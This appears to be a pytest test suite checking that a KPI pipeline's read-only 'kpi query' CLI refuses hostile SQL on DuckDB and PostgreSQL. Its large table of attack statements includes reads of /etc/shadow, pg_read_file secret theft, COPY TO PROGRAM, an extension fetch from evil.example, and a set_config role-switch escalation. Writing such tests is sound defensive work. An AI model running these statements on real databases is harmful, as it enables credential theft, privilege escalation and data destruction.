"""`kpi query` cannot escape (issue 13): hostile statements are refused or stopped, on a
DuckDB warehouse and on a PostgreSQL one, through the real CLI; nothing outside the
warehouse's tables is read (no secret reaches the output) and no snapshot file changes.

The deployment lives in a folder of the system temp dir that the PostgreSQL server (another
OS user) can read and write, so a `COPY ... TO` or `pg_read_file` that got through would
really overwrite a snapshot or leak a secret; `test_the_secrets_are_readable_without_guards`
shows the secrets are within reach of an unguarded connection.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import duckdb
import psycopg2
import pytest
from typer.testing import CliRunner

from kpi_pipeline.cli import app
from kpi_pipeline.exit_codes import ExitCode
from kpi_pipeline.orchestration.query_guard import (
    QueryError,
    check_postgres_statement,
    postgres_leading_words,
)
from kpi_pipeline.orchestration.query_limits import QueryLimits, memory_bytes
from kpi_pipeline.orchestration.readonly_query import read_only_query, search_path
from tests.conftest import fresh_database

SECRET = "outside-secret-7f3a9c"
PII_KEY = "pii-key-5be21d0e"
PARQUET_SECRET = "parquet-secret-c0ffee"
ENV_SECRET = "env-secret-e9d14b"
DAY = "2025-06-02"
ROWS = [("net_revenue", 99.5), ("nps", 12.0), ("sessions", 3.0)]


@dataclass(frozen=True)
class Site:
    """A deployment folder: `data/` (warehouse, PII key, snapshots) and `outside/`."""

    root: Path

    @property
    def data(self) -> Path:
        return self.root / "data"

    @property
    def warehouse(self) -> Path:
        return self.data / "warehouse.duckdb"

    @property
    def pii_key(self) -> Path:
        return self.data / ".pii_key"

    @property
    def snapshots(self) -> Path:
        return self.data / "snapshots"

    @property
    def snapshot_csv(self) -> Path:
        return self.snapshots / DAY / "v1" / "kpis.csv"

    @property
    def outside(self) -> Path:
        return self.root / "outside"

    @property
    def secret(self) -> Path:
        return self.outside / "secret.txt"

    def paths(self) -> dict[str, str]:
        """What the hostile statements' `{placeholders}` stand for."""
        return {
            "data": str(self.data),
            "pii": str(self.pii_key),
            "secret": str(self.secret),
            "outside": str(self.outside),
            "snap_dir": str(self.snapshots),
            "snap_csv": str(self.snapshot_csv),
        }


EMPTY_SHA256 = hashlib.sha256(b"").hexdigest()


def fingerprint(root: Path) -> dict[str, str]:
    """Every file under `root` with its SHA-256, every link with its target."""
    found = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(folder) / name
            relative = str(path.relative_to(root))
            if path.is_symlink():
                found[relative] = f"-> {os.readlink(path)}"
            elif path.is_file():
                found[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def _open_to_everyone(root: Path) -> None:
    """The server runs as `postgres`: let it reach (and, were it not stopped, overwrite)
    every file, as a superuser's COPY or pg_read_file would on a shared host."""
    for folder, _, files in os.walk(root):
        os.chmod(folder, 0o777)
        for name in files:
            os.chmod(Path(folder) / name, 0o666)


def _leak_markers() -> list[str]:
    """Strings that appear in the output only if a secret was read: the planted ones, and
    the first line of the machine's password files when this user can read them."""
    markers = [SECRET, PII_KEY, PARQUET_SECRET, ENV_SECRET]
    for path in (Path("/etc/passwd"), Path("/etc/shadow")):
        try:
            first = path.read_text().splitlines()[0]
        except (OSError, IndexError):
            continue
        if len(first) > 8:
            markers.append(first)
    return markers


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    site = Site(Path(tempfile.mkdtemp(prefix="kpi-query-surface-")))
    (site.snapshots / DAY / "v1").mkdir(parents=True)
    site.outside.mkdir()
    site.secret.write_text(f"{SECRET}\n")
    site.pii_key.write_text(PII_KEY)
    site.snapshot_csv.write_text("kpi_id,value\n" + "".join(f"{k},{v}\n" for k, v in ROWS))
    (site.snapshots / DAY / "latest").symlink_to("v1")
    with duckdb.connect(str(site.warehouse)) as con:
        con.execute("create schema marts")
        con.execute("create schema publish")
        con.execute("create table marts.fct_kpi_daily (kpi_id varchar, value double)")
        con.executemany("insert into marts.fct_kpi_daily values (?, ?)", ROWS)
        con.execute("create view publish.latest_kpis as select * from marts.fct_kpi_daily")
        con.execute(
            f"copy (select '{PARQUET_SECRET}' as secret) to '{site.outside}/secret.parquet'"
        )
        con.execute(f"copy marts.fct_kpi_daily to '{site.snapshots / DAY / 'v1'}/kpis.parquet'")
    _open_to_everyone(site.root)
    yield site
    shutil.rmtree(site.root, ignore_errors=True)


@pytest.fixture(scope="module")
def postgres_warehouse(postgres_url: str) -> Iterator[str]:
    """A database with the same marts and publish view as the DuckDB file."""
    with fresh_database(postgres_url) as url:
        con = psycopg2.connect(url)
        con.autocommit = True
        with con.cursor() as cursor:
            cursor.execute("create schema marts")
            cursor.execute("create schema publish")
            cursor.execute("create table marts.fct_kpi_daily (kpi_id text, value float8)")
            cursor.executemany("insert into marts.fct_kpi_daily values (%s, %s)", ROWS)
            cursor.execute("create view publish.latest_kpis as select * from marts.fct_kpi_daily")
        con.close()
        yield url


@dataclass(frozen=True)
class Target:
    kind: str  # duckdb | postgres
    location: str


@pytest.fixture(params=["duckdb", "postgres"])
def target(request: pytest.FixtureRequest, site: Site) -> Target:
    if request.param == "duckdb":
        return Target("duckdb", str(site.warehouse))
    return Target("postgres", request.getfixturevalue("postgres_warehouse"))


def warehouse_state(target: Target, site: Site) -> dict[str, object]:
    """What must never change: every file of the site and, on PostgreSQL, the tables."""
    files = fingerprint(site.root)
    # the reader's shared lock (warehouse/lock.py) may create the empty lock file; a reader
    # never writes into it
    lock = next((k for k in files if k.endswith("/warehouse.lock")), None)
    if lock is not None:
        assert files.pop(lock) == EMPTY_SHA256, "a reader wrote into the lock file"
    state: dict[str, object] = {"files": files}
    if target.kind == "postgres":
        con = psycopg2.connect(target.location)
        try:
            with con.cursor() as cursor:
                cursor.execute(
                    "select table_schema, table_name from information_schema.tables "
                    "where table_schema not in ('pg_catalog', 'information_schema') order by 1, 2"
                )
                state["tables"] = cursor.fetchall()
                cursor.execute("select * from marts.fct_kpi_daily order by 1")
                state["rows"] = cursor.fetchall()
                cursor.execute("select rolname from pg_roles order by 1")
                state["roles"] = cursor.fetchall()
        finally:
            con.close()
    return state


@pytest.fixture
def kpi(target: Target, site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Run `kpi query ARGS...` through the CLI against `target`; the environment restored."""
    monkeypatch.setenv("KPI_DATA_DIR", str(site.data))
    monkeypatch.setenv("KPI_WAREHOUSE", target.location)
    monkeypatch.setenv("KPI_SNAPSHOT_DIR", str(site.snapshots))
    monkeypatch.setenv("KPI_LANDING_DIR", str(tmp_path / "landing"))
    monkeypatch.setenv("DAGSTER_HOME", str(tmp_path / "dagster_home"))
    monkeypatch.setenv("KPI_PII_KEY", PII_KEY)
    monkeypatch.setenv("KPI_TEST_ENV_SECRET", ENV_SECRET)
    from kpi_pipeline.cli import common

    for console in (common.console, common.err_console):
        monkeypatch.setattr(console, "width", 2000)

    def invoke(sql: str, *options: str):
        # `--` ends the options: SQL may start with a `--` comment
        return CliRunner().invoke(app, ["query", *options, "--", sql])

    return invoke


# ---- the hostile statements ----------------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    """A statement for each warehouse (`postgres` None: the same text) and the words the
    error must name the problem with on each."""

    id: str
    duckdb: str
    duckdb_says: str
    postgres: str | None = None
    postgres_says: str | None = None
    timeout: str = "30"
    memory_limit: str = "1GB"

    def sql(self, kind: str, site: Site) -> str:
        text = self.duckdb if kind == "duckdb" or self.postgres is None else self.postgres
        return text.format(**site.paths())

    def says(self, kind: str) -> str:
        if kind == "postgres" and self.postgres_says is not None:
            return self.postgres_says
        return self.duckdb_says


STOPPED = "and was stopped"
TIMED_OUT = "the query ran longer than 1 s and was stopped"
FILES = "refused: kpi query reads only the warehouse, not files or extensions"
NOT_FILES = "refused: kpi query reads only the warehouse's tables, not files such as"
PG_FILES = "reads or writes the server's files; kpi query reads only the warehouse's tables"
EXPLAIN_ANALYZE = "refused: EXPLAIN ANALYZE runs the statement it explains"
SEMICOLON = "refused: the SQL holds a ';': kpi query runs exactly one statement"


def refused(kind: str) -> str:
    return f"refused: {kind} is not a read"


HOSTILE = [
    # writes
    Hostile("delete", "delete from marts.fct_kpi_daily", refused("DELETE")),
    Hostile("insert", "insert into marts.fct_kpi_daily values ('evil', 1)", refused("INSERT")),
    Hostile("update", "update marts.fct_kpi_daily set value = 0", refused("UPDATE")),
    Hostile("drop", "drop table marts.fct_kpi_daily", refused("DROP")),
    Hostile("truncate", "truncate marts.fct_kpi_daily", refused("TRUNCATE")),
    Hostile("alter", "alter table marts.fct_kpi_daily rename to gone", refused("ALTER")),
    Hostile("create_table", "create table marts.evil as select 1 as x", refused("CREATE")),
    Hostile("create_temp_table", "create temp table evil as select 1 as x", refused("CREATE")),
    Hostile(
        "create_macro",
        "create macro evil(a) as a",
        refused("CREATE"),
        "create function evil() returns int language sql as 'select 1'",
    ),
    Hostile(
        "with_insert",
        "with x as (select 1) insert into marts.fct_kpi_daily select 'evil', 1",
        refused("INSERT"),
        postgres_says="the SQL is not one SELECT PostgreSQL accepts",
    ),
    Hostile(  # a SELECT to DuckDB's parser: the read-only warehouse refuses it
        "with_delete_returning",
        "with gone as (delete from marts.fct_kpi_daily returning *) select * from gone",
        "refused: the warehouse is read-only for kpi query",
        postgres_says="refused: a WITH that changes data is not a read",
    ),
    Hostile("prepare", "prepare evil as delete from marts.fct_kpi_daily", refused("PREPARE")),
    # COPY and EXPORT
    Hostile(
        "copy_over_a_snapshot",
        "copy (select 'x' as kpi_id) to '{snap_csv}' (header false)",
        refused("COPY"),
        "copy (select 'x' as kpi_id) to '{snap_csv}'",
    ),
    Hostile("copy_a_new_file", "copy marts.fct_kpi_daily to '{snap_dir}/x.csv'", refused("COPY")),
    Hostile("copy_from_a_secret", "copy marts.fct_kpi_daily from '{secret}'", refused("COPY")),
    Hostile(
        "copy_to_a_program",
        "copy marts.fct_kpi_daily to '/dev/stdout'",
        refused("COPY"),
        "copy marts.fct_kpi_daily to program 'touch {snap_dir}/pwned'",
    ),
    Hostile("export_database", "export database '{snap_dir}/export'", refused("EXPORT")),
    Hostile("import_database", "import database '{outside}'", refused("IMPORT")),
    # EXPLAIN ANALYZE runs what it explains
    Hostile(
        "explain_analyze_copy",
        "explain analyze copy (select 'x' as kpi_id) to '{snap_csv}' (header false)",
        EXPLAIN_ANALYZE,
    ),
    Hostile(
        "explain_analyze_delete", "explain analyze delete from marts.fct_kpi_daily", EXPLAIN_ANALYZE
    ),
    Hostile(
        "explain_analyze_behind_a_comment",
        "EXPLAIN /* just a plan */ ANALYZE insert into marts.fct_kpi_daily values ('x', 1)",
        EXPLAIN_ANALYZE,
    ),
    Hostile(
        "explain_analyse_install",
        "explain analyse install httpfs",
        EXPLAIN_ANALYZE,
        "explain analyse create table marts.evil as select 1",
    ),
    Hostile(
        "explain_analyze_set",
        "explain analyze set enable_external_access = true",
        EXPLAIN_ANALYZE,
        "explain analyze select set_config('role', 'kpi', false)",
        "refused: set_config changes the session's role or settings",
    ),
    Hostile(
        "explain_options_analyze",
        "explain (analyze) copy (select 1) to '{snap_dir}/x.csv'",
        "refused: kpi query runs only EXPLAIN or EXPLAIN ANALYZE of one SELECT",
        "explain (analyze true) delete from marts.fct_kpi_daily",
        "refused: EXPLAIN options (...) are not accepted",
    ),
    Hostile(
        "explain_copy",
        "explain copy marts.fct_kpi_daily to '{snap_dir}/x.csv'",
        "refused: kpi query explains only a SELECT, not COPY",
    ),
    # ATTACH, DETACH, USE
    Hostile("attach_a_file", "attach '{snap_dir}/evil.duckdb' as evil", refused("ATTACH")),
    Hostile("attach_memory", "attach ':memory:' as scratch", refused("ATTACH")),
    Hostile("detach", "detach warehouse", refused("DETACH")),
    Hostile("use", "use memory", refused("USE")),
    # INSTALL and LOAD
    Hostile(
        "install",
        "install httpfs",
        refused("INSTALL"),
        "create extension adminpack",
        refused("CREATE"),
    ),
    Hostile(
        "force_install",
        "force install httpfs from 'http://evil.example'",
        refused("FORCE"),
        "load 'auto_explain'",
        refused("LOAD"),
    ),
    Hostile("load", "load httpfs", refused("LOAD"), "load '{outside}/evil.so'"),
    # SET, RESET, PRAGMA, CALL and friends
    Hostile(
        "set_external_access",
        "set enable_external_access = true",
        refused("SET"),
        "set role kpi",
    ),
    Hostile(
        "set_limits", "SET memory_limit = '100GB'", refused("SET"), "set statement_timeout = 0"
    ),
    Hostile("reset", "reset memory_limit", refused("RESET"), "reset role"),
    Hostile("pragma", "pragma enable_profiling", refused("PRAGMA")),
    Hostile("call", "call pragma_version()", refused("CALL"), "call evil()"),
    Hostile("checkpoint", "checkpoint", refused("CHECKPOINT")),
    Hostile("begin", "begin transaction", refused("BEGIN")),
    Hostile(
        "settings_through_a_function",
        "select * from query('set enable_external_access = true')",
        "Expected a single SELECT statement",
        "select set_config('role', 'kpi', false)",
        "refused: set_config changes the session's role or settings",
    ),
    Hostile(
        "sql_hidden_in_text",
        "select * from query('select * from read_text(''{secret}'')')",
        FILES,
        "select query_to_xml('select * from pg_authid', true, false, '')",
        "refused: query_to_xml runs SQL given as text",
    ),
    Hostile(  # the way back from pg_read_all_data to the superuser, then a hidden read
        "role_switch_then_hidden_read",
        "select * from query_table('{secret}')",
        NOT_FILES,
        "select set_config('role', 'kpi', true), "
        "query_to_xml('select pg_read_file(''{secret}'')', true, false, '')",
        "refused: pg_read_file reads or writes the server's files",
    ),
    Hostile(
        "do_block",
        "vacuum",
        refused("VACUUM"),
        "do $x$ begin perform pg_sleep(0) end $x$",
        refused("DO"),
    ),
    # more than one statement
    Hostile(
        "two_statements",
        "select 1; delete from marts.fct_kpi_daily",
        "2 statements given; kpi query runs exactly one",
        postgres_says=SEMICOLON,
    ),
    Hostile(
        "select_then_copy",
        "select 1; copy (select 'x' as kpi_id) to '{snap_csv}'",
        "2 statements given",
        postgres_says=SEMICOLON,
    ),
    Hostile(
        "semicolon_in_a_comment",
        "select 1 /* ; */; drop table marts.fct_kpi_daily",
        "2 statements given",
        postgres_says=SEMICOLON,
    ),
    Hostile(
        "line_comment_then_statement",
        "select 1 --\n; attach '{snap_dir}/evil.duckdb'",
        "2 statements given",
        postgres_says=SEMICOLON,
    ),
    Hostile(
        "semicolon_in_a_string",
        "select ';'; install httpfs",
        "2 statements given",
        "select $$;$$; load 'dblink'",
        SEMICOLON,
    ),
    Hostile(
        "transaction_around_a_delete",
        "begin; delete from marts.fct_kpi_daily; commit",
        "3 statements given",
        postgres_says=SEMICOLON,
    ),
    # comments, case and whitespace
    Hostile(
        "block_comment_first", "/* select */ delete from marts.fct_kpi_daily", refused("DELETE")
    ),
    Hostile(
        "line_comment_first", "-- select 1\ndelete from marts.fct_kpi_daily", refused("DELETE")
    ),
    Hostile(
        "nested_comment_first",
        "/* /* */ select */ delete from marts.fct_kpi_daily",
        refused("DELETE"),
    ),
    Hostile("mixed_case", "  \n\tDeLeTe FROM marts.fct_kpi_daily", refused("DELETE")),
    # file readers on paths outside the warehouse
    Hostile(
        "read_text_secret",
        "select * from read_text('{secret}')",
        FILES,
        "select pg_read_file('{secret}')",
        PG_FILES,
    ),
    Hostile(
        "read_text_pii_key",
        "select content from read_text('{pii}')",
        FILES,
        "select pg_read_binary_file('{pii}')",
        PG_FILES,
    ),
    Hostile(
        "read_text_shadow",
        "select * from read_text('/etc/shadow')",
        FILES,
        "select pg_read_file('/etc/shadow')",
        PG_FILES,
    ),
    Hostile(
        "read_blob_environ",
        "select * from read_blob('/proc/self/environ')",
        FILES,
        "select pg_read_binary_file('/proc/self/environ')",
        PG_FILES,
    ),
    Hostile(
        "glob_root", "select * from glob('/root/*')", FILES, "select pg_ls_dir('/root')", PG_FILES
    ),
    Hostile(
        "glob_the_data_folder",
        "select * from glob('{data}/*')",
        FILES,
        "select * from pg_ls_dir('{data}')",
        PG_FILES,
    ),
    Hostile(
        "read_csv_passwd",
        "select * from read_csv('/etc/passwd')",
        FILES,
        "select lo_import('/etc/passwd')",
        PG_FILES,
    ),
    Hostile(
        "read_csv_auto_secret",
        "select * from read_csv_auto('{secret}')",
        FILES,
        "select * from pg_stat_file('{secret}')",
        PG_FILES,
    ),
    Hostile(
        "read_parquet_outside",
        "select * from read_parquet('{outside}/*.parquet')",
        FILES,
        "select dblink('dbname=kpi', 'select 1')",
        "refused: dblink connects to another database",
    ),
    Hostile(
        "read_json_secret",
        "select * from read_json('{secret}')",
        FILES,
        "select pg_read_file('{secret}', 0, 100, true)",
        PG_FILES,
    ),
    Hostile(
        "file_as_a_table",
        "select * from '{secret}'",
        NOT_FILES,
        "select * from pg_read_file('{secret}')",
        PG_FILES,
    ),
    Hostile(
        "describe_a_file",
        "describe '{secret}'",
        NOT_FILES,
        "table pg_authid",
        "refused: pg_authid holds credentials",
    ),
    Hostile(
        "summarize_the_pii_key",
        "summarize '{pii}'",
        NOT_FILES,
        "select rolpassword from pg_catalog.pg_authid",
        "refused: pg_authid holds credentials",
    ),
    Hostile(
        "quoted_function_name",
        "select * from \"READ_TEXT\"('{secret}')",
        FILES,
        "select \"pg_read_file\"('{secret}')",
        PG_FILES,
    ),
    Hostile(
        "escaped_function_name",
        "select * from read_text(['{secret}', '{pii}'])",
        FILES,
        "select U&\"pg\\005fread\\005ffile\"('{secret}')",
        "refused: U&'...' escapes are not accepted",
    ),
    Hostile(
        "path_traversal",
        "select * from read_text('{snap_dir}/../.pii_key')",
        FILES,
        "select pg_read_file('{snap_dir}/../.pii_key')",
        PG_FILES,
    ),
    Hostile(
        "environment_and_settings",
        "select getenv('KPI_TEST_ENV_SECRET')",
        "getenv does not exist",
        "select current_setting('data_directory')",
        "refused: must be superuser or have privileges of pg_read_all_settings",
    ),
    # runaway queries: stopped by the time limit or the memory limit
    Hostile(
        "runaway_cross_join",
        "select count(*) from range(1000000) a, range(1000000) b",
        TIMED_OUT,
        "select count(*) from generate_series(1, 1000000) a, generate_series(1, 1000000) b",
        timeout="1",
    ),
    Hostile(
        "runaway_arithmetic",
        "select sum(a.range * b.range) from range(1000000) a cross join range(1000000) b",
        TIMED_OUT,
        "select pg_sleep(600)",
        timeout="1",
    ),
    Hostile(
        "runaway_sort",
        "select a.range, b.range from range(100000) a, range(100000) b order by 1 desc, 2",
        STOPPED,
        "select a, b from generate_series(1, 100000) a, generate_series(1, 100000) b "
        "order by 1 desc, 2",
        timeout="1",
        memory_limit="100MB",
    ),
    Hostile(
        "runaway_result",
        "select * from range(10000000000)",
        STOPPED,
        "select * from generate_series(1, 10000000000)",
        timeout="1",
        memory_limit="50MB",
    ),
]


def test_the_table_has_enough_hostile_statements() -> None:
    assert len(HOSTILE) >= 40
    assert len({case.id for case in HOSTILE}) == len(HOSTILE)


@pytest.mark.parametrize("case", HOSTILE, ids=[case.id for case in HOSTILE])
def test_a_hostile_statement_is_refused_or_stopped(
    case: Hostile, target: Target, site: Site, kpi
) -> None:
    before = warehouse_state(target, site)
    sql = case.sql(target.kind, site)
    result = kpi(sql, "--timeout", case.timeout, "--memory-limit", case.memory_limit)

    assert result.exit_code == ExitCode.ERROR, result.output
    lines = result.output.splitlines()
    errors = [line for line in lines if line.startswith("error: ")]
    assert len(errors) == 1 and case.says(target.kind) in errors[0], result.output
    assert any(line.startswith("hint: ") for line in lines), result.output
    assert "Traceback" not in result.output
    for marker in _leak_markers():
        assert marker not in result.output, f"{case.id} leaked {marker!r}"
    assert warehouse_state(target, site) == before


def test_the_secrets_are_readable_without_guards(site: Site, postgres_url: str) -> None:
    """The hostile statements are meaningful: an unguarded DuckDB connection, and the
    PostgreSQL superuser the pipeline connects as, do read the planted secrets."""
    with duckdb.connect() as con:
        [(text,)] = con.execute("select content from read_text(?)", [str(site.secret)]).fetchall()
        [(parquet,)] = con.execute(f"select * from '{site.outside}/secret.parquet'").fetchall()
    assert SECRET in text and parquet == PARQUET_SECRET
    con = psycopg2.connect(postgres_url)
    try:
        with con.cursor() as cursor:
            cursor.execute("begin transaction read only")
            cursor.execute("select pg_read_file(%s)", (str(site.pii_key),))
            assert cursor.fetchone()[0] == PII_KEY
            # a superuser's SET ROLE alone is no barrier: set_config switches back
            cursor.execute("set local role pg_read_all_data")
            cursor.execute(
                "select set_config('role', %s, true), query_to_xml(%s, true, false, '')",
                (urlsplit(postgres_url).username, f"select pg_read_file('{site.secret}')"),
            )
            assert SECRET in cursor.fetchone()[1]
            cursor.execute("rollback")
    finally:
        con.close()


# ---- what still works ----------------------------------------------------------------------


READS = {
    "plain_select": (
        "select kpi_id, value from marts.fct_kpi_daily order by kpi_id",
        None,
    ),
    "unqualified_mart": ("select kpi_id, value from fct_kpi_daily order by kpi_id", None),
    "unqualified_publish_view": ("select kpi_id, value from latest_kpis order by kpi_id", None),
    "with_select": (
        "with k as (select * from fct_kpi_daily) select kpi_id, value from k order by kpi_id",
        None,
    ),
    "trailing_semicolon_and_comment": (
        "select kpi_id, value from fct_kpi_daily /* all */ order by kpi_id; ",
        None,
    ),
}


@pytest.mark.parametrize("name", list(READS))
def test_reads_return_the_rows(name: str, target: Target) -> None:
    duckdb_sql, postgres_sql = READS[name]
    sql = postgres_sql if target.kind == "postgres" and postgres_sql else duckdb_sql
    frame = read_only_query(target.location, sql)
    assert frame.rows() == ROWS


def test_plain_explain_shows_a_plan(target: Target) -> None:
    frame = read_only_query(target.location, "explain select * from fct_kpi_daily")
    plan = "\n".join(str(v) for row in frame.rows() for v in row)
    assert "fct_kpi_daily" in plan.lower() or "seq_scan" in plan.lower(), plan


def test_describe_and_its_postgres_equivalent(target: Target) -> None:
    sql = (
        "describe marts.fct_kpi_daily"
        if target.kind == "duckdb"
        else "select column_name, data_type from information_schema.columns "
        "where table_schema = 'marts' and table_name = 'fct_kpi_daily' order by ordinal_position"
    )
    frame = read_only_query(target.location, sql)
    assert frame.to_dicts()[0]["column_name"] == "kpi_id"
    assert frame["column_name"].to_list() == ["kpi_id", "value"]


@pytest.mark.parametrize(
    "sql",
    [
        "show all tables",
        "summarize fct_kpi_daily",
        "from fct_kpi_daily",
        "pivot fct_kpi_daily on kpi_id using sum(value)",
        "explain analyze select count(*) from fct_kpi_daily",
    ],
)
def test_duckdb_reads_beyond_select(sql: str, site: Site) -> None:
    assert read_only_query(site.warehouse, sql).height >= 1


def test_the_cli_prints_csv_and_a_table(target: Target, kpi) -> None:
    csv = kpi("select kpi_id, value from fct_kpi_daily order by kpi_id", "--format", "csv")
    assert csv.exit_code == 0, csv.output
    assert csv.output.splitlines() == [
        "kpi_id,value",
        "net_revenue,99.5",
        "nps,12.0",
        "sessions,3.0",
    ]
    table = kpi("select count(*) as n from latest_kpis")
    assert table.exit_code == 0, table.output
    assert "1 row(s)" in table.output


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--timeout", "0"], "--timeout 0 is not a number of seconds above 0"),
        (["--timeout", "inf"], "--timeout inf is not a number of seconds above 0"),
        (["--memory-limit", "lots"], "--memory-limit 'lots' is not a size"),
    ],
)
def test_bad_limits_are_named(args: list[str], says: str, target: Target, kpi) -> None:
    result = kpi("select 1", *args)
    assert result.exit_code == ExitCode.ERROR
    assert f"error: {says}" in result.output and "hint: " in result.output


# ---- the pure parts ------------------------------------------------------------------------


def test_postgres_leading_words_skip_comments_and_parentheses() -> None:
    text = "/* a /* nested */ comment */ -- line\n ((select 1"
    assert [w for w, _ in postgres_leading_words(text, 3)] == ["(", "(", "select"]
    assert postgres_leading_words("explain 'x'", 3) == [("explain", 0)]


def test_postgres_statement_keeps_the_analysts_text_from_its_first_keyword() -> None:
    statement = check_postgres_statement("-- mine\nexplain verbose select 1;")
    assert (statement.explain, statement.verbose, statement.body) == (True, True, "select 1")
    assert check_postgres_statement("values (1)").body == "values (1)"
    with pytest.raises(QueryError, match="pg_ls_waldir"):
        check_postgres_statement("select * from PG_LS_WALDIR()")


def test_memory_sizes_timeouts_and_the_search_path() -> None:
    assert memory_bytes("1GB") == 10**9
    assert memory_bytes("2 GiB") == 2 * 1024**3
    assert memory_bytes("500mb") == 500 * 10**6
    assert QueryLimits(timeout_seconds=0.5).timeout_text == "0.5 s"
    assert search_path({"main", "publish"}) == "publish"
    assert search_path({"publish", "marts", "raw"}) == "marts,publish"
    for bad in ("", "GB", "-1GB", "0MB", "1 parsec"):
        with pytest.raises(QueryError, match="is not a size"):
            memory_bytes(bad)
